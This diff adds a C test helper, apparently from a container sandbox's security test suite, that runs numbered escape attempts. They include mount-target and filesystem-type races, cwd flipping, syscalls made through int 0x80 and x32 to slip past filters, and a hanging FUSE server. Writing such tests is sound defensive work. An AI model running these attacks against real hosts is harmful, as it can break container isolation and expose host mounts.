@@ -1,0 +1,273 @@
+/* Attacks that take more than one call after another: races, another ABI, namespaces found by enumeration, a FUSE server that hangs.
+ *
+ *	attack NAME [WORD...]
+ *
+ * Prints what came of it. What the host has to see is up to the test.
+ */
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/fuse.h>
+#include <pthread.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdatomic.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/prctl.h>
+#include <sys/statfs.h>
+#include <sys/statvfs.h>
+#include <sys/syscall.h>
+#include <sys/uio.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#define FUSE_MAGIC 0x65735546
+#define PROC_MAGIC 0x9fa0
+
+static const char *said(long ret)
+{
+	return ret < 0 ? strerrorname_np(errno) : "OK";
+}
+
+static double now(void)
+{
+	struct timespec at;
+
+	clock_gettime(CLOCK_MONOTONIC, &at);
+	return (double)at.tv_sec + (double)at.tv_nsec / 1e9;
+}
+
+/* ---- A01, A02, A12: what was judged changes before the kernel reads it again ---- */
+
+static _Atomic int over;
+static char flipped[64];
+static const char *flips[2];
+
+static void *flip(void *unused)
+{
+	(void)unused;
+	while (!over)
+		for (int i = 0; i < 2; i++) {
+			memcpy(flipped, flips[i], strlen(flips[i]) + 1);
+			for (volatile int spin = 0; spin < 200; spin++)
+				;
+		}
+	return NULL;
+}
+
+/* flip-target SECONDS WRITABLE PROTECTED: remounts of a target that flips; how often the protected one was writable. */
+static int flip_target(char **w)
+{
+	pthread_t thread;
+	long calls = 0, broken = 0;
+	double until = now() + atof(w[0]);
+
+	flips[0] = w[1];
+	flips[1] = w[2];
+	strcpy(flipped, w[1]);
+	pthread_create(&thread, NULL, flip, NULL);
+	for (; now() < until; calls++) {
+		struct statvfs fs;
+
+		mount(NULL, flipped, NULL, MS_REMOUNT | MS_BIND, NULL);
+		broken += statvfs(w[2], &fs) < 0 || !(fs.f_flag & ST_RDONLY);
+	}
+	over = 1;
+	pthread_join(thread, NULL);
+	printf("%s, protected mount writable %ld times\n", calls > 100 ? "many calls" : "few calls", broken);
+	return 0;
+}
+
+/* flip-type SECONDS TARGET: mounts of a type that flips between tmpfs and proc; how often a procfs without nodes came of it. */
+static int flip_type(char **w)
+{
+	pthread_t thread;
+	long calls = 0, trees = 0, raw = 0;
+	double until = now() + atof(w[0]);
+	char node[256];
+
+	snprintf(node, sizeof(node), "%s/uptime", w[1]);
+	flips[0] = "tmpfs";
+	flips[1] = "proc";
+	strcpy(flipped, "tmpfs");
+	pthread_create(&thread, NULL, flip, NULL);
+	for (; now() < until; calls++) {
+		struct statfs at, below;
+
+		if (mount("x", w[1], flipped, 0, NULL) < 0)
+			continue;
+		if (statfs(w[1], &at) == 0 && at.f_type == PROC_MAGIC) {
+			trees++;
+			raw += statfs(node, &below) < 0 || below.f_type != FUSE_MAGIC;
+		}
+		umount2(w[1], MNT_DETACH);
+	}
+	over = 1;
+	pthread_join(thread, NULL);
+	printf("%s, %s, without nodes %ld\n", calls > 100 ? "many calls" : "few calls", trees ? "trees" : "no tree", raw);
+	return 0;
+}
+
+static int walker(void *opaque)
+{
+	char **w = opaque;
+
+	while (!over) {
+		if (chdir(w[1]) < 0 || chdir(w[2]) < 0)
+			return 1;
+	}
+	return 0;
+}
+
+/* flip-cwd SECONDS WRITABLE PROTECTED: the working directory, shared with a thread, flips while "." is remounted and unmounted. */
+static int flip_cwd(char **w)
+{
+	static char stack[65536] __attribute__((aligned(16)));
+	pid_t pid = clone(walker, stack + sizeof(stack), CLONE_VM | CLONE_FS | SIGCHLD, w);
+	long calls = 0, broken = 0;
+	double until = now() + atof(w[0]);
+
+	if (pid < 0)
+		return 1;
+	for (; now() < until; calls++) {
+		struct statvfs fs;
+
+		mount(NULL, ".", NULL, MS_REMOUNT | MS_BIND, NULL);
+		umount2(".", 0);
+		broken += statvfs(w[2], &fs) < 0 || !(fs.f_flag & ST_RDONLY);
+	}
+	over = 1;
+	waitpid(pid, NULL, 0);
+	printf("%s, protected mount writable or gone %ld times\n", calls > 100 ? "many calls" : "few calls", broken);
+	return 0;
+}
+
+/* ---- D01 to D03: other ABIs ---- */
+
+static long int80(long nr, long a, long b, long c, long d, long e)
+{
+	long ret;
+
+	__asm__ volatile("push %%rbp\n\tmov %7, %%rbp\n\tint $0x80\n\tpop %%rbp"
+			 : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e), "r"(0L) : "memory", "r8", "r9", "r10", "r11");
+	if (ret < 0 && ret > -4096) {
+		errno = (int)-ret;
+		return -1;
+	}
+	return ret;
+}
+
+static char *low(const char *text)
+{
+	static char *area;
+	char *copy;
+
+	if (!area)
+		area = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
+	copy = area;
+	area += strlen(text) + 1;
+	return strcpy(copy, text);
+}
+
+/* abis PROTECTED TARGET: each door once more by int 0x80 and as x32. */
+static int abis(char **w)
+{
+	long none = (long)low(""), ro = (long)low(w[0]), t = (long)low(w[1]), proc = (long)low("proc"), node = (long)low("/proc/uptime");
+	const struct { const char *name; long nr, a, b, c, d; } calls[] = {
+		{ "mount remount", 21, none, ro, none, MS_REMOUNT | MS_BIND }, { "oldumount node", 22, node, 0, 0, 0 },
+		{ "umount2 node", 52, node, 0, 0, 0 }, { "umount2 protected detach", 52, ro, MNT_DETACH, 0, 0 },
+		{ "oldumount protected", 22, ro, 0, 0, 0 }, { "bind proc", 21, proc, t, none, MS_BIND },
+		{ "unshare bad", 310, 1, 0, 0, 0 }, { "setns bad", 346, 9999, 0, 0, 0 }, { "open_tree", 428, -100, (long)low("/proc"), 1, 0 },
+		{ "syslog", 103, 10, 0, 0, 0 }, { "bpf", 357, 0, 0, 0, 0 }, { "init_module", 128, 0, 0, 0, 0 },
+	};
+	const struct { const char *name; long nr; } x32[] = { { "mount", 165 }, { "umount2", 166 }, { "unshare", 272 }, { "setns", 308 },
+							      { "fsopen", 430 }, { "bpf", 321 } };
+	struct statfs fs;
+
+	for (size_t i = 0; i < sizeof(calls) / sizeof(calls[0]); i++)
+		printf("%s: %s\n", calls[i].name, said(int80(calls[i].nr, calls[i].a, calls[i].b, calls[i].c, calls[i].d, 0)));
+	printf("mount proc: %s\n", said(int80(21, proc, t, proc, 0, 0)));
+	printf("it is %s\n", statfs("/t/uptime", &fs) == 0 && fs.f_type == FUSE_MAGIC ? "virtual" : "not virtual");
+	printf("oldumount of it: %s\n", said(int80(22, t, 0, 0, 0, 0)));
+	for (size_t i = 0; i < sizeof(x32) / sizeof(x32[0]); i++)
+		printf("x32 %s: %s\n", x32[i].name, said(syscall(x32[i].nr + 0x40000000, 0, 0, 0, 0, 0)));
+	return 0;
+}
+
+/* ---- E10: a FUSE server of the container's own that never answers a lookup ---- */
+
+static void *answer_init(void *opaque)
+{
+	int fd = *(int *)opaque;
+	static char buffer[1 << 18];
+	ssize_t size;
+
+	while ((size = read(fd, buffer, sizeof(buffer))) > 0) {
+		struct fuse_in_header *in = (struct fuse_in_header *)buffer;
+		struct {
+			struct fuse_out_header header;
+			union { struct fuse_init_out init; struct fuse_attr_out attr; } body;
+		} out = { .header = { .unique = in->unique, .len = sizeof(out.header) } };
+
+		if (in->opcode == FUSE_INIT) {
+			out.body.init = (struct fuse_init_out){ .major = 7, .minor = 31, .max_write = 4096 };
+			out.header.len += sizeof(out.body.init);
+		} else if (in->opcode == FUSE_GETATTR) {
+			out.body.attr = (struct fuse_attr_out){ .attr_valid = 100, .attr = { .ino = 1, .mode = 040755, .nlink = 2 } };
+			out.header.len += sizeof(out.body.attr);
+		} else {
+			continue;	/* LOOKUP above all */
+		}
+		if (write(fd, &out, out.header.len) < 0)
+			break;
+	}
+	return NULL;
+}
+
+/* fuse-hang TARGET OTHER: a mount and an umount below a server that hangs, then one elsewhere. */
+static int fuse_hang(char **w)
+{
+	int fd = open("/dev/fuse", O_RDWR | O_CLOEXEC);
+	char options[128], below[256];
+	pthread_t thread;
+	double start;
+
+	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,group_id=0", fd);
+	if (fd < 0 || mount("fuse", w[0], "fuse", 0, options) < 0) {
+		printf("fuse: %s\n", said(-1));
+		return 1;
+	}
+	pthread_create(&thread, NULL, answer_init, &fd);
+	snprintf(below, sizeof(below), "%s/a/b", w[0]);
+	start = now();
+	printf("mount below: %s\n", said(mount("x", below, "proc", 0, NULL)));
+	printf("in time: %s\n", now() - start < 6 ? "yes" : "no");
+	printf("mount elsewhere: %s\n", said(mount("x", w[1], "proc", 0, NULL)));
+	printf("umount elsewhere: %s\n", said(umount2(w[1], 0)));
+	fflush(stdout);
+	_exit(0);
+}
+
+static const struct {
+	const char *name;
+	int words;
+	int (*run)(char **words);
+} ATTACKS[] = {
+	{ "flip-target", 3, flip_target }, { "flip-type", 2, flip_type }, { "flip-cwd", 3, flip_cwd }, { "abis", 2, abis },
+	{ "fuse-hang", 2, fuse_hang },
+};
+
+int main(int argc, char **argv)
+{
+	for (size_t i = 0; argc > 1 && i < sizeof(ATTACKS) / sizeof(ATTACKS[0]); i++)
+		if (!strcmp(ATTACKS[i].name, argv[1]) && argc - 2 >= ATTACKS[i].words)
+			return ATTACKS[i].run(argv + 2);
+	fprintf(stderr, "attack: no such attack, or too few words\n");
+	return 2;
+}
